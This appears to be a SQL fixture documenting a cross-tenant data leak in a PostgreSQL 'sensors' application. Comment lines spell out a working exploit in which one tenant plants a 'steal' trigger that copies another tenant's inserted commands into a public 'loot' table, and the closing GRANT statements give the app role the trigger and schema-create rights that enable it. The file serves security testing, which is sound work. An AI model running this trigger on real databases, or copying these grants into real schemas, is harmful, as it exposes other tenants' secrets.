-- Tenant A attaches a trigger of its own to the commands and sees what others insert.
-- about: commands
-- as: ho_sensors_app
-- exploit: SET sensors.site_id = '1';
-- exploit: CREATE TABLE loot (x text);
-- exploit: GRANT ALL ON loot TO PUBLIC;
-- exploit: CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO loot VALUES
-- exploit: (NEW.command::text); RETURN NEW; END $$;
-- exploit: CREATE TRIGGER steal BEFORE INSERT ON commands FOR EACH ROW EXECUTE FUNCTION steal();
-- exploit: SET sensors.site_id = '2';
-- exploit: INSERT INTO commands VALUES (2, 'd2-secret', DEFAULT, '{"c":"later-secret"}');
-- exploit: SET sensors.site_id = '1';
-- exploit: SELECT x FROM loot;
-- shows: later-secret
GRANT TRIGGER ON commands TO ho_sensors_app;
GRANT CREATE ON SCHEMA public TO ho_sensors_app;
